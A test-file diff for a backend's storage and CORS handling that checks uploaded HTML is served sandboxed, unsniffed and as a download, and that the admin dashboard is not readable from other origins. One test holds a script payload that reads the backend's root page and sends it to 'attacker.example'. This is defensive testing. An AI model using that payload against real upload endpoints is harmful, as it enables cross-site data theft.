@@ -208,3 +208,52 @@ it("the dashboard, with the key, masks what signs people in: auth tables and fie
   // Plain data is still shown.
   expect(seenUser).toBe(true);
 });
+
+it("an uploaded HTML file cannot run on the backend's origin: no sniffing, sandboxed, downloaded", async () => {
+  const client = await signedInClient(backend.url, "Hugo Html", "hugo@exemplo.com");
+  try {
+    const uploadUrl = await client.mutation(api.events.generateImageUploadUrl, {});
+    const page = "<script>fetch('/').then((r) => r.text()).then((t) => fetch('https://attacker.example/?' + t))</script>";
+    for (const contentType of ["text/html", "image/svg+xml", "application/xhtml+xml", ""]) {
+      const upload = await fetch(uploadUrl, { method: "POST", headers: contentType ? { "Content-Type": contentType } : {}, body: page });
+      const { storageId } = (await upload.json()) as { storageId: string };
+      const served = await fetch(`${backend.url}/api/storage/${storageId}`);
+      expect(await served.text()).toBe(page);
+      expect(served.headers.get("x-content-type-options"), contentType).toBe("nosniff");
+      expect(served.headers.get("content-security-policy"), contentType).toMatch(/(^|;)\s*sandbox(;|$)/);
+      expect(served.headers.get("content-disposition"), contentType).toMatch(/^attachment/);
+    }
+    // Images, the app's files, are still shown in place.
+    const image = await uploadImage(client);
+    const shown = await fetch(`${backend.url}/api/storage/${image}`);
+    expect(shown.headers.get("content-type")).toBe("image/png");
+    expect(shown.headers.get("content-disposition")).toBeNull();
+    expect(shown.headers.get("content-security-policy")).toMatch(/sandbox/);
+  } finally {
+    await client.close();
+  }
+});
+
+it("answers the app's cross-origin calls as Convex does, credentials included (the presence goodbye beacon)", async () => {
+  const origin = "http://127.0.0.1:5173";
+  const preflight = await fetch(`${backend.url}/api/mutation`, {
+    method: "OPTIONS",
+    headers: { Origin: origin, "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type" },
+  });
+  expect(preflight.status).toBe(204);
+  expect(preflight.headers.get("access-control-allow-origin")).toBe(origin);
+  expect(preflight.headers.get("access-control-allow-credentials")).toBe("true");
+  expect(preflight.headers.get("access-control-allow-headers")).toBe("content-type");
+  expect(preflight.headers.get("access-control-allow-methods")).toContain("POST");
+
+  const goodbye = await fetch(`${backend.url}/api/mutation`, {
+    method: "POST",
+    headers: { Origin: origin, "Content-Type": "application/json" },
+    body: JSON.stringify({ path: "presence:disconnect", args: { sessionToken: "gone" } }),
+  });
+  expect(goodbye.headers.get("access-control-allow-origin")).toBe(origin);
+  expect(goodbye.headers.get("access-control-allow-credentials")).toBe("true");
+  // The dashboard, which a cookie unlocks, is never readable from another origin.
+  const dashboard = await fetch(`${backend.url}/`, { headers: { Origin: origin, Authorization: `Convex ${backend.adminKey}` } });
+  expect(dashboard.headers.get("access-control-allow-origin")).toBeNull();
+});
